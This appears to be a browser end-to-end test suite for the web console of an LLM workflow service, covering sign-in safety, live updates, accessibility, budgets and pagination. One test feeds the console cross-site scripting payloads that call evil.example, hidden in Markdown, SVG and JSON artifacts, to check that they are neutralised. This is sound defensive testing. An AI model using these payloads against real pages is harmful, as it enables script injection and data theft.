/** The console in a real browser: live, after a crash, by keyboard alone, for everybody, and safe from what models write. */
import { gzipSync } from "node:zlib";
import { AxeBuilder } from "@axe-core/playwright";
import type { BrowserContextOptions, Page, Response } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CHROMIUM } from "../../support/chromium";
import { ConsoleBrowser, DESK } from "../../support/console-browser";
import { until } from "../../support/served";

const PHONE: BrowserContextOptions = { viewport: { width: 375, height: 720 }, colorScheme: "dark" };
const FIRST_LOAD_KIB = 150;

/** What a view shows when it is there; `run` stands for the address of a run. */
const SIGNS: Record<string, string> = {
  "/runs": "table",
  "/runs/new/debate": "form.form",
  run: ".debate .passage",
  "run/artifacts": "article .json",
  "run/details": "table",
  "run/questions": ".card",
  "/inbox": ".card",
  "/keys": ".box",
  "/templates": "details",
  "/usage": "table",
};

const plain = (question: string) => ({ workflow: "plain", input: { question } });
const requirements = { workflow: "requirements", input: { idea: "A library that lends tools to neighbours" } };

describe.skipIf(!CHROMIUM)("the console", () => {
  let served: ConsoleBrowser["served"];
  let on: ConsoleBrowser;
  beforeAll(async () => {
    on = await ConsoleBrowser.start();
    ({ served } = on);
  });
  afterAll(() => on?.close());

  it("leads a browser from / to the console, and answers others as before", async () => {
    const root = (accept: string) => fetch(`${served.url}/`, { headers: { accept }, redirect: "manual" });
    const led = await root("text/html,application/xhtml+xml,*/*;q=0.8");
    expect([led.status, new URL(led.headers.get("location")!, served.url).pathname]).toEqual([302, "/console"]);
    expect((await root("*/*")).status).toBe(404);
    const policy = (await fetch(`${served.url}/console/runs/any`)).headers.get("content-security-policy");
    expect(policy).toContain("script-src 'self';");
    expect(policy).not.toContain("unsafe");
    expect((await fetch(`${served.url}/console/assets/none.js`)).status).toBe(404);
  });

  it("keeps the key out of every address and cookie, and forgets it at sign-out", async () => {
    const page = await on.open();
    const addresses: string[] = [];
    page.on("request", (request) => addresses.push(request.url(), request.headers().referer ?? ""));
    await page.goto(`${served.url}/console#key=${served.test_key}`);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("heading", { name: "Runs" }).waitFor();
    expect(page.url()).toBe(`${served.url}/console/runs`);
    await page.goBack().catch(() => null);
    expect(page.url()).not.toContain(served.test_key);
    expect(addresses.filter((address) => address.split("#")[0]!.includes(served.test_key))).toEqual([]);
    expect(await page.context().cookies()).toEqual([]);
    await page.goto(`${served.url}/console/runs`);
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.getByRole("button", { name: "Sign in" }).waitFor();
    expect(await page.evaluate("sessionStorage.length")).toBe(0);
    await page.context().close();
  });

  it("signs nobody in by a stranger's link, unless the person at the page wants it", async () => {
    const stranger = served.live_key;
    const link = `${served.url}/console/runs#key=${stranger}`;
    const kept = (page: Page) => page.evaluate("sessionStorage.getItem('parley.key')");
    const page = await on.open();
    await page.goto(link);
    await page.getByRole("heading", { name: "Sign in with the key of this link?" }).waitFor();
    expect([await kept(page), page.url()]).toEqual([null, `${served.url}/console/runs`]);
    expect(await page.locator("main").textContent()).toContain(stranger.slice(-4));
    expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([]);
    await page.getByRole("button", { name: "Use another key" }).click();
    await page.getByLabel("API key").waitFor();
    expect(await kept(page)).toBe(null);
    await page.context().close();

    const signedIn = await on.signedIn("/runs");
    await signedIn.evaluate(`location.href = ${JSON.stringify(link)}`);
    await signedIn.getByRole("button", { name: "Stay signed in" }).click();
    await signedIn.getByRole("heading", { name: "Runs" }).waitFor();
    expect(await kept(signedIn)).toBe(served.test_key);
    await signedIn.evaluate(`location.href = ${JSON.stringify(link)}`);
    await signedIn.getByRole("button", { name: "Sign in" }).click();
    await signedIn.getByRole("heading", { name: "Runs" }).waitFor();
    expect(await kept(signedIn)).toBe(stranger);
    await signedIn.context().close();
  });

  it(`loads at most ${FIRST_LOAD_KIB} KiB, gzipped, before the list of runs is shown`, async () => {
    const page = await on.open();
    const answers: Response[] = [];
    page.on("response", (response) => {
      if (response.url().includes("/console")) answers.push(response);
    });
    await page.goto(`${served.url}/console#key=${served.test_key}`);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("heading", { name: "Runs" }).waitFor();
    const bytes = (await Promise.all(answers.map((answer) => answer.body()))).reduce(
      (sum, body) => sum + gzipSync(body).length,
      0,
    );
    expect(bytes).toBeGreaterThan(10 * 1024);
    expect(bytes / 1024).toBeLessThan(FIRST_LOAD_KIB);
    await page.context().close();
  });

  it("shows a run that somebody starts, and its end, without a reload", async () => {
    const page = await on.signedIn("/runs");
    await page.evaluate("window.mark = 1");
    await on.start({ ...plain("How far is the lighthouse?"), test: { latency_ms: 2500 } });
    const row = page.getByRole("row", { name: /How far is the lighthouse/ });
    await row.getByText("running").waitFor();
    await row.getByText("completed").waitFor();
    await row.getByRole("link").click();
    await page.getByRole("heading", { name: "Result" }).waitFor();
    expect(await page.evaluate("window.mark")).toBe(1);
    await page.context().close();
  });

  it("shows the calls under way, marked as not stored, and each event once after the server was killed", async () => {
    const id = await on.start({ ...requirements, test: { latency_ms: 700 } });
    const page = await on.signedIn(`/runs/${id}/events`);
    await page.getByText("not stored").waitFor();
    await until("some events are shown", async () => (await page.locator(".events > li").count()) > 3);
    const port = Number(new URL(served.url).port);
    await served.kill();
    await page.getByText("The connection to the server is broken").waitFor();
    await served.up(port);
    await page.locator("h1").getByText("completed").waitFor({ timeout: 60_000 });
    const { data } = await served.api("GET", `/v1/runs/${id}/events?limit=100`, served.test_key);
    const shown = () => page.locator(".events .seq").allTextContents();
    await until("every event is shown", async () => (await shown()).length >= data.length);
    expect((await shown()).map(Number).toReversed()).toEqual(data.map(({ seq }: { seq: number }) => seq));
    await page.context().close();
  });

  it("says first why a run failed, where, and what to do", async () => {
    const id = await on.start({ ...plain("Who are you?"), test: { faults: { llm: ["refusal"] } } });
    await served.status(id, "failed", served.test_key);
    const page = await on.signedIn(`/runs/${id}`);
    const why = page.getByRole("region", { name: /Why it failed/ });
    await why.getByText("What to do").waitFor();
    expect(await why.textContent()).toMatch(/The model refused to answer.*In the stage Answer.*use another model/s);
    await page.context().close();
  });

  it("cancels a run, retries it from a stage, and follows its next life", async () => {
    const page = await on.signedIn("/inbox");
    const id = await on.start({ ...plain("How deep is the harbour?"), test: { latency_ms: 5000 } });
    await page.goto(`${served.url}/console/runs/${id}/events`);
    const told = (type: string) => page.locator(".events li > strong").getByText(type, { exact: true });
    await page.getByRole("button", { name: "Cancel run" }).click();
    await told("canceled").waitFor();
    await page.getByRole("button", { name: "Retry" }).click();
    await page.getByLabel("Begin").selectOption({ label: "again from answer" });
    await page.getByRole("button", { name: "Retry", exact: true }).click();
    await told("retried").waitFor();
    await told("completed").waitFor();
    const shown = (await page.locator(".events .seq").allTextContents()).map(Number);
    expect(shown).toEqual(Array.from(shown, (_, at) => shown.length - at));
    await page.context().close();
  });

  it("can be used by keyboard alone, from the key to the result", async () => {
    const page = await on.open();
    await page.goto(`${served.url}/console`);
    const reach = async (name: RegExp) => {
      for (let presses = 0; presses < 60; presses++) {
        await page.keyboard.press("Tab");
        const text = await page.evaluate("document.activeElement.textContent || document.activeElement.id");
        if (name.test(text as string)) return;
      }
      throw new Error(`The Tab key does not lead to ${name}.`);
    };
    await reach(/^key$/);
    await page.keyboard.type(served.test_key);
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Runs" }).waitFor();
    await reach(/^New run$/);
    await page.keyboard.press("Enter");
    await page.getByText("One plain call").waitFor();
    await reach(/^One plain call/);
    await page.keyboard.press("Enter");
    await page.getByRole("button", { name: "Start run" }).waitFor();
    await reach(/^Start run$/);
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Result" }).waitFor();
    await page.context().close();
  });

  it("shows the errors of a form at their fields, and starts the run once they are mended", async () => {
    const page = await on.signedIn("/runs/new/debate");
    await page.locator(".hint code", { hasText: "US-CA" }).waitFor();
    await page.getByText("More (2)").click();
    await page.getByLabel("Language", { exact: true }).first().fill("x");
    await page.getByRole("button", { name: "Start run" }).click();
    await page.locator(".field.wrong").first().waitFor();
    await page.locator(".field.wrong input").first().fill("en");
    await page.getByRole("button", { name: "Start run" }).click();
    await page.getByRole("heading", { name: "The debate" }).waitFor();
    await page.locator(".passage mark").first().waitFor();
    await page.context().close();
  });

  it("saves a template, starts a run of it, now and by its schedule, and sums up the usage", async () => {
    const page = await on.signedIn("/templates");
    await page.getByText("New template").click();
    await page.getByLabel("Name").first().fill("Tides");
    await page.getByLabel("Request").fill(JSON.stringify(plain("What is the tide at {{place}}?")));
    await page.getByLabel("Fields").fill('{"place": {"type": "string", "example": "Lagos"}}');
    await page.getByRole("button", { name: "Save" }).click();
    await page.getByText("Start a run of Tides").click();
    await page.getByLabel("place").fill("Faro");
    await page.getByRole("button", { name: "Start run" }).click();
    await page.getByRole("heading", { name: "What is the tide at Faro?" }).waitFor();
    await page.getByRole("heading", { name: "Result" }).waitFor();
    const [template] = (await served.api("GET", "/v1/templates", served.test_key)).data;
    const yearly = { name: "Yearly", template_id: template.id, cron: "0 0 1 1 *", fields: { place: "Sines" } };
    await served.api("POST", "/v1/schedules", served.test_key, yearly);
    await page.getByRole("link", { name: "Templates" }).click();
    await page.getByRole("button", { name: "Start now" }).click();
    await page.getByRole("link", { name: "last run" }).click();
    await page.getByRole("heading", { name: "What is the tide at Sines?" }).waitFor();
    await page.getByRole("link", { name: "Usage" }).click();
    await page.getByLabel("By").selectOption("workflow");
    await page.getByRole("cell", { name: "plain", exact: true }).waitFor();
    await page.context().close();
  });

  it("shows the month's budget, and changes it with a live key only", async () => {
    const path = "/usage";
    const change = async (page: Page, dollars: string) => {
      await page.getByText(/^(Set a|Change the) budget$/).click();
      await page.getByLabel("Dollars a month").fill(dollars);
      await page.getByLabel("At 100 %").selectOption("refuse");
      await page.getByRole("button", { name: "Save" }).click();
    };
    const visitor = await on.signedIn(path);
    await visitor.getByText("There is no budget.").waitFor();
    await change(visitor, "5");
    await visitor.getByText(/scope admin/).waitFor();
    const page = await on.signedIn(path, DESK, served.live_key);
    await page.getByText("There is no budget.").waitFor();
    await page.getByRole("heading", { name: "Models" }).waitFor();
    expect(await visitor.getByRole("heading", { name: "Models" }).count()).toBe(0);
    await page.route("**/v1/budget", async (route) => {
      await new Promise((resolve) => setTimeout(resolve, 1000));
      await route.continue();
    });
    await page.reload();
    await page.getByRole("heading", { name: "Budget of this month" }).waitFor();
    // The form comes with the budget, which would clear what was typed.
    expect(await page.getByLabel("Dollars a month").count()).toBe(0);
    await change(page, "12.5");
    await page.getByText("$0 of $12.50").waitFor();
    await page.getByText("At 100 % new live runs are refused").waitFor();
    const budget = () => served.api("GET", "/v1/budget", served.live_key);
    expect(await budget()).toMatchObject({ amount_usd: 12.5, at_limit: "refuse" });
    await page.getByLabel("Dollars a month").fill("");
    await page.getByRole("button", { name: "Save" }).click();
    await page.getByText("There is no budget.").waitFor();
    expect((await budget()).amount_usd).toBeNull();
    await Promise.all([page, visitor].map((each) => each.context().close()));
  });

  it("lists open questions, gives one more time, and drops one that somebody has answered", async () => {
    const id = await on.start({ ...requirements, options: { reviews: ["user_stories"] } });
    const { interactions } = await served.status(id, "input_required", served.test_key);
    const page = await on.signedIn("/inbox");
    const card = page.getByRole("listitem").filter({ has: page.getByRole("link", { name: "Answer" }) });
    await card.waitFor();
    const expires = async () =>
      (await served.api("GET", `/v1/interactions/${interactions[0]}`, served.test_key)).expires_at as string;
    const before = Date.parse(await expires());
    await card.getByRole("button", { name: "One day more" }).click();
    await until("it has a day more", async () => Date.parse(await expires()) - before === 86_400_000);
    const answer = { decision: "approve" };
    await served.api("POST", `/v1/interactions/${interactions[0]}/answer`, served.test_key, answer);
    await card.waitFor({ state: "detached" });
    await page.getByText("Nobody has to answer anything").waitFor();
    await page.context().close();
  });

  it("lets nothing that a model wrote act: scripts in SVG, Markdown and JSON", async () => {
    const id = await on.completed(requirements);
    const { data } = await served.api("GET", `/v1/runs/${id}/artifacts?limit=100`, served.test_key);
    const attack = "fetch('https://evil.example/'),window.hacked=1";
    const hostile: Record<string, { media_type: string; content: unknown }> = {
      requirement_draft: {
        media_type: "text/markdown",
        content: `# Draft\n\n<script>${attack}</script><img src="https://evil.example/a.png" onerror="${attack}">\n\n![a](https://evil.example/b.png) [press me](javascript:${attack}) <https://evil.example/c>\n`,
      },
      diagram_svg: {
        media_type: "image/svg+xml",
        content: `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${attack}"><script>${attack}</script><image href="https://evil.example/d.png"/><rect width="40" height="40"/></svg>`,
      },
      entities: {
        media_type: "application/json",
        content: { "<img src=x onerror=hacked=1>": `</script><script>${attack}</script>` },
      },
    };
    const page = await on.signedIn("/runs");
    const strangers: string[] = [];
    page.on("request", (request) => {
      if (!/^(blob:)?http:\/\/(127\.0\.0\.1|localhost):/.test(request.url())) strangers.push(request.url());
    });
    await page.route(`**/v1/runs/${id}/artifacts/*`, async (route) => {
      const response = await route.fetch();
      const artifact = await response.json();
      await route.fulfill({ response, json: { ...artifact, ...hostile[artifact.kind] } });
    });
    for (const [kind, sign] of [
      ["requirement_draft", "press me"],
      ["entities", "</script>"],
      ["diagram_svg", null],
    ] as const) {
      const artifact = data.find((each: { kind: string }) => each.kind === kind).id;
      await page.goto(`${served.url}/console/runs/${id}/artifacts?artifact=${artifact}`);
      if (sign) await page.locator("article").getByText(sign, { exact: false }).first().waitFor();
      else await page.locator('article img[src^="blob:"]').waitFor();
      expect(
        await page.locator('article script, article svg, article img[src^="http"], a[href^="javascript"]').count(),
      ).toBe(0);
      expect(await page.evaluate("window.hacked")).toBe(undefined);
    }
    expect(strangers).toEqual([]);
    await page.context().close();
  });

  it("stays usable with a thousand runs and with five hundred artifacts", async () => {
    const id = await on.completed(plain("Which tide is today?"));
    const [run] = (await served.api("GET", "/v1/runs?limit=1", served.test_key)).data;
    const {
      data: [artifact],
    } = await served.api("GET", `/v1/runs/${id}/artifacts`, served.test_key);
    const pageOf = (all: object[], url: URL) => {
      const from = Number(url.searchParams.get("cursor") ?? 0);
      const to = from + Number(url.searchParams.get("limit"));
      return { data: all.slice(from, to), next_cursor: to < all.length ? String(to) : null };
    };
    const runs = Array.from({ length: 1000 }, (_, at) => ({ ...run, about: { title: `Run ${at}`, excerpt: "" } }));
    const artifacts = Array.from({ length: 500 }, (_, at) => ({
      ...artifact,
      id: `art_${at}`,
      subject: `number ${at}`,
    }));
    const page = await on.signedIn("/inbox");
    await page.route(/\/v1\/runs\?/, (route) => route.fulfill({ json: pageOf(runs, new URL(route.request().url())) }));
    await page.route(/\/artifacts\?/, (route) =>
      route.fulfill({ json: pageOf(artifacts, new URL(route.request().url())) }),
    );
    await page.getByRole("link", { name: "Runs" }).click();
    await page.getByText("Run 49", { exact: true }).waitFor();
    expect(await page.locator("tbody tr").count()).toBe(50);
    await page.getByRole("button", { name: "Next" }).click();
    await page.getByText("Run 50", { exact: true }).waitFor();
    expect(page.url()).toContain("cursor=50");
    const previous = page.getByRole("button", { name: "Previous" });
    await previous.click();
    await page.getByText("Run 49", { exact: true }).waitFor();
    await page.getByRole("button", { name: "Next" }).click();
    await page.getByText("Run 50", { exact: true }).waitFor();
    const address = page.url();
    await page.goto("about:blank");
    await page.goto(address); // as somebody opens it who was sent it
    await page.getByText("Run 50", { exact: true }).waitFor();
    expect(await previous.isDisabled()).toBe(true);
    await page.getByLabel("Status").selectOption("completed");
    await page.getByText("Run 0", { exact: true }).waitFor();
    expect(page.url()).toMatch(/status=completed$/);

    await page.goto(`${served.url}/console/runs/${id}/artifacts`);
    await page.getByText("Find among 500 artifacts").fill("number 377");
    expect(await page.locator(".artifact-list a").allTextContents()).toEqual(["Answer number 377"]);

    // A long table comes in steps, so that no task holds up the page.
    await page.evaluate(`(() => {
      const rows = () => document.querySelectorAll("[aria-label=Lineage] tbody tr").length;
      let before = rows();
      window.most = 0;
      new MutationObserver(() => {
        window.most = Math.max(window.most, rows() - before);
        before = rows();
      }).observe(document.body, { childList: true, subtree: true });
    })()`);
    await page.getByRole("link", { name: "Details" }).click();
    await page.getByText("number 499", { exact: true }).waitFor();
    expect(await page.evaluate("window.most")).toBeLessThanOrEqual(50);
    await page.context().close();
  });

  it.each([
    ["a desk, in the light", DESK, ["run", "run/details", "/runs/new/debate", "/inbox", "/keys", "/usage"]],
    ["a phone, in the dark", PHONE, ["/runs", "run", "run/artifacts", "run/questions", "/templates", "/usage"]],
  ])("axe finds no error, on %s, and nothing is wider than the window", async (_, how, paths) => {
    const asking = await on.start({ ...requirements, options: { human_stakeholder: true } });
    const { example } = await served.api("GET", "/v1/workflows/debate", served.test_key);
    const done = await on.completed({ workflow: "debate", ...example });
    await served.status(asking, "input_required", served.test_key);
    const addressOf = (path: string) =>
      path.replace(/^run/, path === "run/questions" ? `/runs/${asking}` : `/runs/${done}`);
    // axe is a script, so the page's policy is off.
    const page = await on.signedIn("/runs", { ...how, bypassCSP: true });
    const found: string[] = [];
    for (const path of paths) {
      await page.goto(`${served.url}/console${addressOf(path)}`);
      await page.locator(SIGNS[path]!).first().waitFor();
      const { violations } = await new AxeBuilder({ page }).analyze();
      found.push(...violations.map(({ id, nodes }) => `${path} ${id}: ${nodes[0]!.html}`));
      const [content, window] = (await page.evaluate("[document.documentElement.scrollWidth, innerWidth]")) as number[];
      if (content! > window!) found.push(`${path} is ${content} wide in a window of ${window}`);
    }
    expect(found).toEqual([]);
    await page.context().close();
  });

  it("breaks nothing of its own policy, and throws nothing", () => {
    expect(on.refusals).toEqual([]);
  });
});
